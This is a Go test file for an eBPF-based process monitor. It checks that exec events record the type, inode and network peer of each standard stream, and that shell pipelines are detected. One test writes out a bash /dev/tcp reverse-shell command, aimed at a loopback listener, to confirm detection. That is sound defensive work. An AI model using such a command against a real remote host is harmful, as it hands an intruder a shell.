package bpf

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/vigil-project/vigil/engine/event"
)

// inoOf is the inode number of an open file.
func inoOf(t *testing.T, f *os.File) uint64 {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Fstat(int(f.Fd()), &st); err != nil {
		t.Fatal(err)
	}
	return st.Ino
}

// dialed connects to a listener on addr (tcp4 or tcp6 loopback) and
// returns the client end as a file, and the address it is connected to.
func dialed(t *testing.T, network, addr string) (*os.File, string) {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		if c, err := ln.Accept(); err == nil {
			t.Cleanup(func() { c.Close() })
		}
	}()
	c, err := net.Dial(network, ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f, ln.Addr().String()
}

// stdin, stdout and stderr at exec: their kind, inode and, for inet
// sockets, the peer; a later event of the process carries them too.
func TestExecStdio(t *testing.T) {
	c := live(t)
	dir := tempDir(t)
	sock4, peer4 := dialed(t, "tcp4", "127.0.0.1:0")
	sock6, peer6 := dialed(t, "tcp6", "[::1]:0")
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	defer pw.Close()
	file, err := os.Create(filepath.Join(dir, "out"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	null, err := os.Open("/dev/null")
	if err != nil {
		t.Fatal(err)
	}
	defer null.Close()
	ptm, pts, _ := openPTY(t)
	defer ptm.Close()
	defer pts.Close()

	run := func(stdin, stdout, stderr *os.File, shell string) int {
		t.Helper()
		argv := []string{"/bin/cat", filepath.Join(dir, "out")}
		if shell != "" {
			argv = []string{"/bin/sh", "-c", shell}
		}
		cmd := exec.Command(argv[0], argv[1:]...)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = stdin, stdout, stderr
		if err := cmd.Run(); err != nil {
			t.Fatalf("%q: %v", argv, err)
		}
		return cmd.Process.Pid
	}
	cases := []struct {
		name string
		pid  int
		want [3]event.Stdio
	}{
		{"socket4 pipe file", run(sock4, pw, file, ""), [3]event.Stdio{
			{Type: "socket", Ino: inoOf(t, sock4), Peer: peer4}, {Type: "pipe", Ino: inoOf(t, pw)}, {Type: "file", Ino: inoOf(t, file)}}},
		{"socket6 tty char", run(sock6, pts, null, ""), [3]event.Stdio{
			{Type: "socket", Ino: inoOf(t, sock6), Peer: peer6}, {Type: "tty", Ino: inoOf(t, pts)}, {Type: "char", Ino: inoOf(t, null)}}},
		// The shell closes stdin and stderr and opens a directory as
		// stdout, then execs cat.
		{"none dir none", run(null, null, null, "exec /bin/cat /dev/null <&- 2>&- 1<"+dir), [3]event.Stdio{
			{Type: "none"}, {Type: "dir", Ino: inoOf(t, mustOpen(t, dir))}, {Type: "none"}}},
	}
	for _, tc := range cases {
		ev := c.waitFor(t, tc.name, func(e *event.Event) bool {
			return e.Type == event.TypeExec && e.Proc.PID == uint32(tc.pid) && e.Proc.Name == "cat"
		})
		if ev.Proc.Stdio != tc.want {
			t.Errorf("%s: stdio %+v, want %+v", tc.name, ev.Proc.Stdio, tc.want)
		}
		if tc.name == "socket4 pipe file" {
			for i, name := range []string{"proc.stdin_type", "proc.stdout_type", "proc.stderr_type", "proc.stdin_peer", "proc.stdout_peer"} {
				f, _ := event.FieldByName(name)
				want := []string{"socket", "pipe", "file", peer4, ""}[i]
				if got := f.Str(ev); got != want {
					t.Errorf("%s = %q, want %q", name, got, want)
				}
			}
		}
	}
	// A later event of the same process: cat's open of its argument.
	open := c.waitFor(t, "open by cat", openOf(cases[0].pid, filepath.Join(dir, "out")))
	if open.Proc.Stdio != cases[0].want {
		t.Errorf("open: stdio %+v, want %+v", open.Proc.Stdio, cases[0].want)
	}
}

// A reverse shell as attack tools write it: bash's /dev/tcp on stdin,
// stdout and stderr, then an exec, which sees three sockets to the peer.
func TestExecStdioReverseShell(t *testing.T) {
	c := live(t)
	bash := realpath(t, "/bin/bash")
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		if c, err := ln.Accept(); err == nil {
			defer c.Close()
			buf := make([]byte, 64)
			c.Read(buf)
		}
	}()
	addr := ln.Addr().(*net.TCPAddr)
	cmd := exec.Command(bash, "-c", "exec /bin/true 0<>/dev/tcp/127.0.0.1/"+strconv.Itoa(addr.Port)+" 1>&0 2>&0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v %s", cmd.Args, err, out)
	}
	ev := c.waitFor(t, "exec of true", func(e *event.Event) bool {
		return e.Type == event.TypeExec && e.Proc.PID == uint32(cmd.Process.Pid) && e.Proc.Name == "true"
	})
	peer := addr.String()
	for i, s := range ev.Proc.Stdio {
		if s.Type != "socket" || s.Peer != peer || s.Ino != ev.Proc.Stdio[0].Ino {
			t.Errorf("fd %d: %+v, want the socket to %s", i, s, peer)
		}
	}
}

func mustOpen(t *testing.T, path string) *os.File {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// bigScript writes a shell script longer than a pipe's buffer (64 KiB),
// so that cat, printing it into a pipe, is still running when the shell
// at the other end execs.
func bigScript(t *testing.T, dir string) string {
	t.Helper()
	path := filepath.Join(dir, "script.sh")
	b := make([]byte, 0, 100<<10)
	for len(b) < 96<<10 {
		b = append(b, ": padding line\n"...)
	}
	if err := os.WriteFile(path, append(b, "exit 0\n"...), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// cat script | sh: at least the second of the two to exec names the
// other (the first may too, when the other is already there).
func TestExecPipeline(t *testing.T) {
	c := live(t)
	dir := tempDir(t)
	script := bigScript(t, dir)
	cmd := exec.Command("/bin/sh", "-c", "/bin/cat "+script+" | /bin/sh")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v %s", cmd.Args, err, out)
	}
	outer := uint32(cmd.Process.Pid)
	child := func(name string) *event.Event {
		return c.waitFor(t, name+" of the pipeline", func(e *event.Event) bool {
			return e.Type == event.TypeExec && e.Proc.PPID == outer && e.Proc.Name == name
		})
	}
	cat, sh := child("cat"), child("sh")
	catExe, shExe := realpath(t, "/bin/cat"), realpath(t, "/bin/sh")
	if cat.Proc.Stdio[1].Type != "pipe" || sh.Proc.Stdio[0].Type != "pipe" || cat.Proc.Stdio[1].Ino != sh.Proc.Stdio[0].Ino {
		t.Fatalf("cat's stdout %+v, sh's stdin %+v: want one pipe", cat.Proc.Stdio[1], sh.Proc.Stdio[0])
	}
	reader, _ := event.FieldByName("proc.stdout_reader")
	readerExe, _ := event.FieldByName("proc.stdout_reader_exe")
	writer, _ := event.FieldByName("proc.stdin_writer")
	writerExe, _ := event.FieldByName("proc.stdin_writer_exe")
	catSees := reader.Str(cat) == "sh" && readerExe.Str(cat) == shExe
	shSees := writer.Str(sh) == "cat" && writerExe.Str(sh) == catExe
	if !catSees && !shSees {
		t.Errorf("neither end names the other: cat's reader %q %q, sh's writer %q %q", reader.Str(cat), readerExe.Str(cat), writer.Str(sh), writerExe.Str(sh))
	}
	// Neither names anything for the fds that are not pipes.
	if writer.Str(cat) != "" || reader.Str(sh) != "" {
		t.Errorf("cat's writer %q, sh's reader %q; want none", writer.Str(cat), reader.Str(sh))
	}
}

// A pipe between two processes of different parents and process groups
// is no pipeline: neither cat names the other.
func TestExecPipelineUnrelated(t *testing.T) {
	c := live(t)
	dir := tempDir(t)
	script := bigScript(t, dir)
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	// Each cat is a child of its own shell, which leads its own process
	// group; the shells (children of this process) are a pipeline.
	start := func(shell string, stdin, stdout *os.File) *exec.Cmd {
		cmd := exec.Command("/bin/sh", "-c", shell)
		cmd.Stdin, cmd.Stdout = stdin, stdout
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		return cmd
	}
	writerCmd := start("/bin/cat "+script+"; true", nil, pw)
	readerCmd := start("/bin/cat >/dev/null; true", pr, nil)
	pw.Close()
	if err := writerCmd.Wait(); err != nil {
		t.Fatal(err)
	}
	if err := readerCmd.Wait(); err != nil {
		t.Fatal(err)
	}
	catOf := func(cmd *exec.Cmd) *event.Event {
		return c.waitFor(t, "cat under "+strconv.Itoa(cmd.Process.Pid), func(e *event.Event) bool {
			return e.Type == event.TypeExec && e.Proc.PPID == uint32(cmd.Process.Pid) && e.Proc.Name == "cat"
		})
	}
	w, r := catOf(writerCmd), catOf(readerCmd)
	if w.Proc.Stdio[1].Ino != r.Proc.Stdio[0].Ino || w.Proc.Stdio[1].Type != "pipe" {
		t.Fatalf("writer's stdout %+v, reader's stdin %+v: want one pipe", w.Proc.Stdio[1], r.Proc.Stdio[0])
	}
	if w.Proc.Stdio[1].PipeName != "" || r.Proc.Stdio[0].PipeName != "" {
		t.Errorf("writer cat names %q, reader cat names %q; want neither", w.Proc.Stdio[1].PipeName, r.Proc.Stdio[0].PipeName)
	}
}
